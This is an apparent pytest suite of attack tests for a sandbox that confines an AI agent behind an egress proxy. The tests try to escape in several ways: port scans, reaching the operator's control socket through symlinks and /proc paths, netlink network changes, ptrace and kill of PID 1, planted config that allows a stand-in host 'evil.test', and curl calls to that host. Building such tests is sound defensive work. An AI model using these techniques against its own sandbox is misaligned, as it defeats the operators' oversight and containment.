"""A9-A13: the sidecar's own surface, sockets of the host, capabilities, and policy over a bottle's life."""

from __future__ import annotations

import json
import os
import signal
import sys
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING

import pytest

from tests.attacks import inside
from tests.attacks.conftest import FRONTMATTER, TOKEN_REF
from tests.support.family import Family, wait_until
from tests.support.outside import new_marker

if TYPE_CHECKING:
    from tests.support.lab import Lab, RunningBottle
    from tests.support.outside import World

pytestmark = [pytest.mark.integration, pytest.mark.attack]

_OPEN_PORTS = """
def scan(host):
    found = []
    for port in range(1, 65536):
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as sock:
            # A free port in the ephemeral range can connect to itself (RFC 9293, simultaneous open).
            if sock.connect_ex((host, port)) == 0 and sock.getsockname() != sock.getpeername():
                found.append(port)
    return found
tell(v4=scan("127.0.0.1"), v6=scan("::1"))
"""


def test_a9_only_the_declared_ports_listen(bottle: RunningBottle) -> None:
    found = inside.run(bottle, _OPEN_PORTS)
    assert found["v4"] == [53, 80, 443, 9099, 9100, 9420]
    assert found["v6"] in ([53, 80, 443, 9099, 9100, 9420], [])


def test_a9_allowlist_tells_names_and_no_value(bottle: RunningBottle, token: str) -> None:
    answer = bottle.sh("curl -sS -m 5 http://_egress.local/allowlist")
    text = json.dumps(answer.json())
    assert "allowed.test" in text
    assert TOKEN_REF in text
    assert token not in text


def test_a9_nothing_about_the_sidecar_can_be_changed(bottle: RunningBottle, world: World) -> None:
    marker = new_marker("a9")
    body = json.dumps({"routes": [{"host": f"{marker}.evil.test"}]})
    tries = [
        f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}\\n' -X {method} -d '{body}' http://_egress.local{path}"
        for method in ("POST", "PUT", "PATCH", "DELETE")
        for path in ("/allowlist", "/routes", "/reload", "/shutdown", "/config", "/")
    ]
    answers = bottle.sh("\n".join(tries), timeout=60).out.split()
    assert [answer[0] for answer in answers] == ["4"] * len(tries)
    bottle.sh(f"curl -sS -m 5 https://{marker}.evil.test/")
    assert world.reached(marker) == []
    assert [line["reason"] for line in bottle.denied(f"{marker}.evil.test")] == ["host_not_allowed"]


def test_a9_the_proxy_cannot_be_turned_on_itself_or_the_host(bottle: RunningBottle, world: World) -> None:
    hosts = ("mitm.it", "localhost", "127.0.0.1", "127.0.0.1:9099", "[::1]", "_egress.local.evil.test")
    markers = {host: new_marker("a9") for host in hosts}
    asked = bottle.sh(
        "\n".join(
            f"curl -sS -g -m 5 --noproxy '' -x $http_proxy http://{host}/{marker} | tr -d '\\n'; echo"
            for host, marker in markers.items()
        )
    )
    answers = [json.loads(line) for line in asked.out.splitlines()]
    assert [answer["error"] for answer in answers] == ["bot_bottle_denied"] * len(hosts)
    for host, marker in markers.items():
        assert world.reached(marker) == [], host
        assert bottle.denied(marker), host


def test_a9_the_operators_control_socket_is_out_of_reach(bottle: RunningBottle) -> None:
    """It lies in a folder of which the bottle sees parts; no name inside leads to it, and no link."""
    place = bottle.state_dir / "control"
    assert place.is_socket()
    script = """
import glob, os, stat
place = %r
os.symlink(place, os.path.expanduser("~/workspace/knock"))
names = [place, os.path.expanduser("~/workspace/knock"), os.path.expanduser("~/workspace/../../control")]
names += glob.glob("/proc/[0-9]*/root" + place) + glob.glob("/proc/[0-9]*/cwd/../control")
tried = []
for name in names:
    with socket.socket(socket.AF_UNIX) as sock:
        try:
            sock.connect(name)
            sock.sendall(b'{"order": "reload", "routes": []}\\n')
            tried.append(sock.recv(99).decode())
        except OSError as error:
            tried.append(error.errno)
named = [os.path.join(folder, "control") for folder, _, files in os.walk("/") if "control" in files]
found = [one for one in named if not one.startswith("/proc/") and stat.S_ISSOCK(os.lstat(one).st_mode)]
os.unlink(os.path.expanduser("~/workspace/knock"))
tell(tried=tried, found=found)
"""
    told = inside.run(bottle, script % str(place))
    assert told["found"] == []
    assert told["tried"]
    assert all(isinstance(one, int) for one in told["tried"]), told
    assert not [line for line in bottle.audit() if line["event"] == "reload"]


def test_a10_no_unix_socket_of_the_host(bottle: RunningBottle) -> None:
    named = bottle.sh("find / -xdev -type s 2>/dev/null; find /tmp /run /home /var /dev -type s 2>/dev/null")
    assert named.out == ""
    listed = bottle.sh("tail -n +2 /proc/net/unix").out.splitlines()
    assert [line.split()[7] for line in listed if len(line.split()) > 7] == []


def test_a10_sockets_with_power_are_not_there(bottle: RunningBottle) -> None:
    paths = (
        "/var/run/docker.sock", "/run/docker.sock", "/run/containerd", "/run/user", "/run/dbus",
        "/run/systemd", "/run/podman", "/tmp/.X11-unix", "/run/snapd.socket", "/var/run/nscd",
    )  # fmt: skip
    script = f"for path in {' '.join(paths)} /etc/passwd; do test ! -e $path || echo $path; done"
    assert bottle.sh(script).out.split() == ["/etc/passwd"]


def test_a10_no_variable_points_at_the_host(bottle: RunningBottle, hosts_variables: dict[str, str]) -> None:
    names = {line.partition("=")[0] for line in bottle.sh("env").out.splitlines()}
    assert names.isdisjoint(hosts_variables)
    assert names - {"PWD", "OLDPWD", "SHLVL", "_"} <= set(bottle.guest_env)


def test_a10_no_descriptor_is_inherited(lab: Lab) -> None:
    secret = lab.user_home / "operator-secret"
    secret.write_text("descriptor-secret")
    lab.declare(
        "fds",
        "agent_provider:\n  template: command\n  argv: [/bin/sh, '{prompt_file}']\n",
        prompt="ls -l /proc/self/fd; cat <&7",
    )
    shell = (
        f"exec 7<{secret}; [ -r /proc/self/fd/7 ] && echo open-outside; exec {sys.executable} -m bot_bottle"
    )
    script = f"{shell} start fds --yes --headless --prompt go"
    result = lab.world.run(["bash", "-c", script], account=lab.account, env=lab.env, cwd=lab.project)
    assert "open-outside" in result.out
    assert "descriptor-secret" not in result.out + result.err
    assert str(secret) not in result.out


def test_a11_other_socket_families_are_refused(bottle: RunningBottle) -> None:
    families = {
        "AF_VSOCK": (40, 1), "AF_PACKET": (17, 3), "AF_ALG": (38, 5), "AF_KEY": (15, 3),
        "AF_BLUETOOTH": (31, 3), "AF_RDS": (21, 5), "AF_CAN": (29, 3), "AF_XDP": (44, 3),
    }  # fmt: skip
    code = """
found = {}
for name, (family, kind) in families.items():
    try:
        socket.socket(family, kind, 0)
        found[name] = "open"
    except OSError as error:
        found[name] = errno.errorcode[error.errno]
tell(**found)
"""
    found = inside.run(bottle, code, families=families)
    refused = {"EPERM", "EACCES", "EAFNOSUPPORT"}
    assert {name: told for name, told in found.items() if told not in refused} == {}
    assert found.keys() == families.keys()


def test_a11_inet_and_unix_sockets_still_work(bottle: RunningBottle) -> None:
    code = (
        "import socket; [socket.socket(f, 1).close() for f in (1, 2, 10)]; socket.socketpair(); print('ok')"
    )
    assert bottle.py(code).out.strip() == "ok"


def test_a12_no_capability_and_no_new_privileges(bottle: RunningBottle) -> None:
    fields = dict(
        line.split(":", 1) for line in bottle.sh("cat /proc/self/status").out.splitlines() if ":" in line
    )
    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(fields[name], 16) == 0, name
    assert fields["NoNewPrivs"].strip() == "1"
    assert fields["Seccomp"].strip() == "2"
    assert "0" not in fields["Uid"].split()


_NETLINK = """
def change(kind, payload):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.bind((0, 0))
        sock.send(struct.pack("=IHHII", 16 + len(payload), kind, 5, 1, 0) + payload)
        return -struct.unpack_from("=i", sock.recv(4096), 16)[0]
lo = socket.if_nametoindex("lo")
address = struct.pack("=BBBBI", 2, 24, 0, 0, lo) + struct.pack("=HH4s", 8, 2, bytes([10, 9, 8, 7]))
link = struct.pack("=BxHiII", 0, 0, lo, 0, 1)
route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHi", 8, 4, lo)
tell(address=change(20, address), link=change(16, link), route=change(24, route))
"""


def test_a12_the_network_cannot_be_reconfigured(bottle: RunningBottle) -> None:
    assert inside.run(bottle, _NETLINK) == {"address": 1, "link": 1, "route": 1}  # EPERM


def test_a12_the_sidecars_ports_cannot_be_taken(bottle: RunningBottle) -> None:
    code = """
result = {}
for port in (53, 80, 443, 9099, 9100, 9420):
    for address in ("127.0.0.1", "0.0.0.0"):
        with socket.socket() as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            try:
                sock.bind((address, port))
                sock.listen()
                result[f"{address}:{port}"] = "listening"
            except OSError as error:
                result[f"{address}:{port}"] = errno.errorcode[error.errno]
tell(**result)
"""
    assert set(inside.run(bottle, code).values()) <= {"EADDRINUSE", "EACCES", "EPERM"}


def test_a12_pid_1_and_the_helper_cannot_be_traced_or_ended(bottle: RunningBottle, world: World) -> None:
    code = """
import platform
ptrace = {"x86_64": 101, "aarch64": 117}[platform.machine()]
result = {"attach": syscall(ptrace, 16, 1, 0, 0), "seize": syscall(ptrace, 0x4206, 1, 0, 0)}
readers = dict.fromkeys(("environ", "mem", "maps"), lambda path: open(path, "rb").read(1))
for name, reader in {**readers, "root": os.readlink, "cwd": os.readlink, "fd": os.listdir}.items():
    try:
        reader("/proc/1/" + name)
        result[name] = "read"
    except OSError as error:
        result[name] = errno.errorcode[error.errno]
for number in (9, 15, 19):
    try:
        os.kill(1, number)
    except OSError:
        pass
tell(**result)
"""
    found = inside.run(bottle, code)
    assert set(found.values()) <= {"EPERM", "EACCES"}, found
    marker = new_marker("a12")
    bottle.sh(f"curl -sS -m 5 https://allowed.test/{marker}")
    assert world.reached(marker), "the bottle did not outlive signals to its PID 1"


def test_a13_a_dead_sidecar_means_no_way_out(
    lab: Lab, world: World, fresh: list[RunningBottle], token: str
) -> None:
    running = lab.launch("attack", env={TOKEN_REF: token})
    fresh.append(running)
    before, after = new_marker("a13"), new_marker("a13")
    running.sh(f"curl -sS -m 5 https://allowed.test/{before}")
    assert world.reached(before)
    with Family(lab, running.launcher_pid, running.identity) as family:
        os.kill(family.sidecar(), signal.SIGKILL)
    for option in ("", "--noproxy '*'"):
        result = running.sh(f"curl -sS -m 5 {option} https://allowed.test/{after}")
        assert result.returncode != 0
    assert world.reached(after) == []


def test_a13_what_the_agent_wrote_changes_nothing_after_resume(lab: Lab, world: World, token: str) -> None:
    marker = new_marker("a13")
    first = lab.launch("attack", env={TOKEN_REF: token})
    planted = FRONTMATTER + f"    - host: {marker}.evil.test\n"
    first.sh(
        "for where in ~/.bot-bottle ~/workspace/.bot-bottle; do mkdir -p $where/bottles $where/agents;"
        " cat > /tmp/planted; cp /tmp/planted $where/bottles/attack.md; done; touch ~/here;"
        " printf '[pins]\\n' > ~/.bot-bottle/config.toml",
        stdin=f"---\n{planted}---\n".encode(),
    )
    first.close(exit_code=3)
    second = lab.launch("attack", env={TOKEN_REF: token}, identity=first.identity)
    try:
        assert second.sh("test -e ~/here").returncode == 0
        second.sh(f"curl -sS -m 5 https://{marker}.evil.test/")
        assert world.reached(marker) == []
        assert [line["reason"] for line in second.denied(f"{marker}.evil.test")] == ["host_not_allowed"]
    finally:
        second.close()


def test_a13_a_route_the_operator_removed_is_gone_after_resume(lab: Lab, world: World, token: str) -> None:
    lab.declare("shrinking", FRONTMATTER)
    first = lab.launch("shrinking", env={TOKEN_REF: token})
    before, after = new_marker("a13"), new_marker("a13")
    first.sh(f"curl -sS -m 5 https://allowed.test/{before}")
    first.close(exit_code=1)
    lab.declare("shrinking", FRONTMATTER.replace("    - host: allowed.test\n", ""))
    second = lab.launch("shrinking", env={TOKEN_REF: token}, identity=first.identity)
    try:
        second.sh(f"curl -sS -m 5 https://allowed.test/{after}")
    finally:
        second.close()
    assert world.reached(before)
    assert world.reached(after) == []


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM, signal.SIGHUP])
def test_a13_nothing_lives_on_after_the_launcher(lab: Lab, token: str, number: int) -> None:
    running = lab.launch("attack", env={TOKEN_REF: token})
    with Family(lab, running.launcher_pid, running.identity) as family:
        assert len(family.below()) >= 3  # sidecar, what isolates, PID 1
        running.kill(number)
        try:
            assert running.wait() is not None
        finally:
            running.abandon()
        family.wait_until_gone()


def test_a14_a_connection_opened_before_a_route_was_removed_ends_with_it(lab: Lab, world: World) -> None:
    before, after = new_marker("a14"), new_marker("a14")
    code = """
sock = tls(connect("closing.test:443")[0], "closing.test")
get = "GET /%s HTTP/1.1\\r\\nHost: closing.test\\r\\n\\r\\n"
first = ask(sock, get % before)
sock.settimeout(60)
try:
    rest = len(sock.recv(1))
except OSError:
    rest = 0
try:
    second = ask(sock, get % after)
except OSError:
    second = ""
again = ask(tls(connect("closing.test:443")[0], "closing.test"), get % after)
tell(first=first, rest=rest, second=second, again=again)
"""
    frontmatter = "agent_provider: {template: command, argv: [/bin/sh]}\negress: {routes: [{host: %s}]}\n"
    lab.declare("closing", frontmatter % "closing.test")
    with lab.launch("closing") as running, ThreadPoolExecutor(1) as pool:
        told = pool.submit(inside.run, running, code, before=before, after=after)
        wait_until(lambda: bool(running.decisions(before)), "the connection is in use")
        lab.declare("closing", frontmatter % "other.test")
        applied = lab.cli("apply", running.identity, "--yes")
        assert applied.returncode == 0, applied.err
        found = told.result()
    assert inside.status(found["first"]) == 200
    assert (found["rest"], inside.status(found["second"])) == (0, 0)
    assert inside.refusal(found["again"])["reason"] == "host_not_allowed"
    assert world.reached(before)
    assert world.reached(after) == []
